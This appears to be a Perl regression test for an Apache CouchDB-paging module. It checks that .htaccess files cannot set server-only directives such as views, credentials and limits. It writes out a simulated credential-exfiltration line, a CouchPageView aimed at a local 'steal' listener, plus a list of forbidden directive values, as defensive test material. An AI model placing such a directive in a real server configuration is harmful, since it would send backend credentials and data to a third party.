# SPDX-License-Identifier: Apache-2.0
# What a .htaccess file may set (docs/directives.md): presentation only. A
# .htaccess that names a view of its own, to have the server's
# CouchPageCredentials sent to a listener of its choosing, gets httpd's 500
# for a directive it may not use, the error log names the directive, and no
# request reaches that listener; so for every directive that decides what is
# asked of CouchDB, with which credentials and which of its data leaves,
# also where AllowOverrideList names it. The presentation directives work
# there and merge; a CouchPageSize above the server's CouchPageMaxSize, or an
# item that reads documents the location does not ask for, gets 500 with a
# line naming the directive. This test starts its own httpd (with .htaccess
# files, which the shared test server has none of) and the listener.
use strict;
use warnings;

use Apache::Test qw(plan ok);
use Apache::TestUtil qw(t_cmp);
use File::Path qw(make_path);
use File::Spec::Functions qw(catfile);
use File::Temp qw(tempdir);
use HTTP::Tiny ();
use IO::Select ();
use IO::Socket::INET ();
use POSIX ();
use Time::HiRes qw(sleep time);
use CouchPageTest qw(double_url double_load own_process start_own_httpd decode_json_or_undef
                     error_log_mark error_log_since write_text);

my $root = tempdir(CLEANUP => 1);
my $htdocs = catfile($root, 'htdocs');
my $double = double_url();
my $user = $ENV{COUCHPAGE_DOUBLE_USER} // 'admin';
my $password = $ENV{COUCHPAGE_DOUBLE_PASSWORD} // 'double-admin-secret';
my $VIEW = "$double/confine/_design/d/_view/v";

double_load('confine', [ map { { _id => sprintf('doc%02d', $_), n => $_, title => "Title $_" } } 1 .. 10 ],
            { v => { map => 'function (doc) { emit(doc.n, null); }' } });

# The other listener: it notes every connection and what came on it.
my $stolen = catfile($root, 'stolen.log');
my $listener = IO::Socket::INET->new(Listen => 16, LocalAddr => '127.0.0.1', LocalPort => 0, ReuseAddr => 1)
    or die "listener: $!\n";
my $steal_port = $listener->sockport;
my $listener_pid = fork // die "fork: $!\n";
if ($listener_pid == 0) {
    while (my $client = $listener->accept) {
        my ($bytes, $select) = ('', IO::Select->new($client));
        while ($select->can_read(1)) {
            last unless sysread $client, $bytes, 65536, length $bytes;
        }
        open my $log, '>>', $stolen or POSIX::_exit(1);
        print $log "connection: ", length $bytes, " bytes", ($bytes =~ /^Authorization:/mi ? ' with Authorization' : ''), "\n";
        close $log;
        close $client;
    }
    POSIX::_exit(0);
}
own_process($listener_pid, 'the listener');
close $listener;
sub stolen { open my $fh, '<', $stolen or return (); return <$fh> }

make_path(map { catfile($htdocs, $_) } qw(user listed pages/sub pages/html pages/docs));
my ($port) = start_own_httpd($root, [qw(proxy proxy_http)], <<"CONF");
DocumentRoot "$htdocs"
CouchPageCredentials "$user" "$password"
<Proxy "$double/">
    ProxySet keepalive=On timeout=10
</Proxy>
# a user's directory
<Directory "$htdocs/user">
    AllowOverride All
</Directory>
# one whose .htaccess may set what AllowOverrideList names
<Directory "$htdocs/listed">
    AllowOverride None
    AllowOverrideList SetHandler CouchPageView CouchPageCredentials CouchPageFormat
</Directory>
# pages the server defines, which .htaccess files present
<Directory "$htdocs/pages">
    SetHandler couchpage
    CouchPageView "$VIEW"
    CouchPageMaxSize 8
    AllowOverride FileInfo
</Directory>
<Directory "$htdocs/pages/docs">
    CouchPageIncludeDocs On
</Directory>
CONF
my $conf_file = catfile($root, 'httpd.conf');

my $http = HTTP::Tiny->new(timeout => 30);
sub htaccess { my ($dir, $text) = @_; return write_text(catfile($htdocs, $dir, '.htaccess'), $text) }
sub get {
    my ($path, $accept) = @_;
    return $http->get("http://127.0.0.1:$port$path", { headers => { Accept => $accept // 'application/json' } });
}
sub error_log_size { return error_log_mark(catfile($root, 'error_log')) }
# The error log's lines after offset MARK, once one matches UNTIL (or after 3 s).
sub error_log_after {
    my ($mark, $until) = @_;
    return join '', map { "$_\n" } error_log_since($mark, file => catfile($root, 'error_log'),
                                                   until => $until, wait => 3);
}

# Every directive that decides what is asked of CouchDB, with which
# credentials and which of its data leaves: [directive line].
my @SERVER_ONLY = (
    qq{CouchPageView "http://127.0.0.1:$steal_port/steal/_all_docs"},
    'CouchPageCredentials thief secret',
    'CouchPageMaxSize 10000',
    'CouchPageMaxResponse 4294967296',
    'CouchPageBackendDeadline 3600',
    q{CouchPageRange '"a"' '"z"'},
    'CouchPagePartition "%{HTTP:X-P}"',
    'CouchPageDescending On',
    'CouchPageReduce On',
    'CouchPageGroupLevel 1',
    'CouchPageIncludeDocs On',
    'CouchPageFields title',
    'CouchPageTokenSecret "a secret of the user\'s own"',
    'CouchPageMaxTokenLength 65536',
    'CouchPageJumpReach 1000',
    'CouchPageUpdate false',
    'CouchPageStable On',
);

plan tests => 3 + 2 * @SERVER_ONLY + 3 + 9 + 4 + 1;

# --- the attack, as issue 23 tells it ------------------------------------------
my $mark = error_log_size();
my $file = htaccess('user', qq{SetHandler couchpage\nCouchPageView "http://127.0.0.1:$steal_port/steal/_all_docs"\n});
my $res = get('/user/');
ok t_cmp($res->{status}, 500, 'a .htaccess that sets a view of its own: 500');
ok t_cmp(error_log_after($mark, qr/not allowed here/), qr{\Q$file\E: CouchPageView not allowed here},
         'the error log names the .htaccess file and the directive');
# the server's own page works: its credentials are there, and sent where the server says
$res = get('/pages/');
my $page = decode_json_or_undef($res->{content});
ok t_cmp($res->{status} . ' ' . (ref $page eq 'HASH' ? scalar @{ $page->{items} } : 'no page'), '200 8',
         "the server's page, with its credentials: 200 (CouchPageMaxSize 8 caps the default size)");

# --- each directive that is the server's alone, in a .htaccess ------------------
for my $line (@SERVER_ONLY) {
    my ($directive) = $line =~ /^(\S+)/;
    $mark = error_log_size();
    $file = htaccess('user', "SetHandler couchpage\n$line\n");
    $res = get('/user/');
    ok t_cmp($res->{status}, 500, "$directive in a .htaccess (AllowOverride All): 500");
    ok t_cmp(error_log_after($mark, qr/not allowed here/), qr{\Q$file\E: \Q$directive\E not allowed here},
             "$directive: the error log names it");
}

# --- where AllowOverrideList names them: refused all the same -----------------
for my $line (qq{CouchPageView "http://127.0.0.1:$steal_port/steal/_all_docs"}, qq{CouchPageCredentials "$user" "$password"}) {
    my ($directive) = $line =~ /^(\S+)/;
    $mark = error_log_size();
    $file = htaccess('listed', "SetHandler couchpage\n$line\n");
    $res = get('/listed/');
    ok t_cmp($res->{status} . ' ' . error_log_after($mark, qr/cannot occur/), qr{^500 .*\Q$file\E: \Q$directive\E cannot occur within htaccess files}s,
             "$directive in a .htaccess where AllowOverrideList names it: 500, named in the log");
}
# ... while what AllowOverrideList names of the presentation works there
htaccess('listed', "CouchPageFormat json\n");
ok t_cmp(get('/listed/')->{status}, 404, 'a presentation directive AllowOverrideList names: accepted (no page there: 404)');

# --- presentation in .htaccess: works, and merges ------------------------------
htaccess('pages', qq{CouchPageSize 3\nCouchPageFormat json\nCouchPageLinks 1\nCouchPageMaxAge 60 public\n});
$res = get('/pages/', 'text/html');
$page = decode_json_or_undef($res->{content});
ok t_cmp($res->{status} . ' ' . (ref $page eq 'HASH' ? join(',', map { $_->{key} } @{ $page->{items} }) : 'no page'),
         '200 1,2,3', '.htaccess: CouchPageSize 3, CouchPageFormat json (for a browser too)');
ok t_cmp($res->{headers}{'cache-control'} // '', 'public, max-age=60', '.htaccess: CouchPageMaxAge 60 public');
ok t_cmp(ref $page eq 'HASH' && ref $page->{pages} eq 'ARRAY' ? scalar @{ $page->{pages} } : 'none', 2,
         '.htaccess: CouchPageLinks 1 (this page and the next)');
htaccess('pages/sub', "CouchPageSize 2\n");
$res = get('/pages/sub/', 'text/html');
$page = decode_json_or_undef($res->{content});
ok t_cmp($res->{status} . ' ' . (ref $page eq 'HASH' ? join(',', map { $_->{key} } @{ $page->{items} }) : 'no page'),
         '200 1,2', 'a .htaccess below: its CouchPageSize 2, the JSON of the one above');
ok t_cmp($res->{headers}{'cache-control'} // '', 'public, max-age=60', '... and its CouchPageMaxAge');
htaccess('pages/html', qq{CouchPageFormat html\nCouchPageText next "Plus loin"\nCouchPageItemTemplate "<i>%{couchpage_html:key}</i>"\n});
$res = get('/pages/html/', 'text/html');
ok t_cmp($res->{status} . ' ' . join(',', $res->{content} =~ m{<i>(\d+)</i>}g), '200 1,2,3',
         '.htaccess: CouchPageFormat html and CouchPageItemTemplate, the size of the one above');
ok t_cmp($res->{content}, qr{Plus loin}, '.htaccess: CouchPageText');

# a size above the server's CouchPageMaxSize: 500, the log names both
$mark = error_log_size();
$file = htaccess('pages/sub', "CouchPageSize 20\n");
$res = get('/pages/sub/');
ok t_cmp($res->{status}, 500, 'a .htaccess CouchPageSize 20 above the server\'s CouchPageMaxSize 8: 500');
ok t_cmp(error_log_after($mark, qr/CP0104/),
         qr{CP0104: configuration error for /pages/sub/: CouchPageSize 20 \(\Q$file\E:1\) is larger than CouchPageMaxSize 8 \(\Q$conf_file\E:\d+\)},
         'the error log names CouchPageSize, its file, and the limit with its place');

# --- an item of the documents: only where the server asks for them -------------
$mark = error_log_size();
$file = htaccess('pages/html', "CouchPageFormat html\nCouchPageItem doc.title\n");
$res = get('/pages/html/', 'text/html');
ok t_cmp($res->{status}, 500, 'a .htaccess item of doc.title where the server asks for no documents: 500');
ok t_cmp(error_log_after($mark, qr/CP0104/),
         qr{CP0104: configuration error for /pages/html/: CouchPageItem \(\Q$file\E:2\) reads the rows' documents \(doc\), and CouchPageIncludeDocs is not On},
         'the error log names CouchPageItem and what is missing');
htaccess('pages/docs', "CouchPageFormat html\nCouchPageSize 2\nCouchPageItem doc.title\n");
$res = get('/pages/docs/', 'text/html');
ok t_cmp($res->{status} . ' ' . join(',', $res->{content} =~ m{(Title \d+)}g), '200 Title 1,Title 2',
         'the same item where the server sets CouchPageIncludeDocs On: the titles');
ok t_cmp(scalar(() = stolen()) ? 'connected' : 'nothing', 'nothing', 'through it all, nothing reached the other listener');

# the listener notes what reaches it: a request of the test's own does
my $probe = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $steal_port) or die "probe: $!\n";
print $probe "GET /probe HTTP/1.0\r\nAuthorization: Basic probe\r\n\r\n";
close $probe;
my $until = time + 5;
sleep 0.1 while !stolen() and time < $until;
ok t_cmp(join('', stolen()), qr{^connection: \d+ bytes with Authorization$}m,
         'the listener notes a connection and its Authorization header (so it saw none before)');
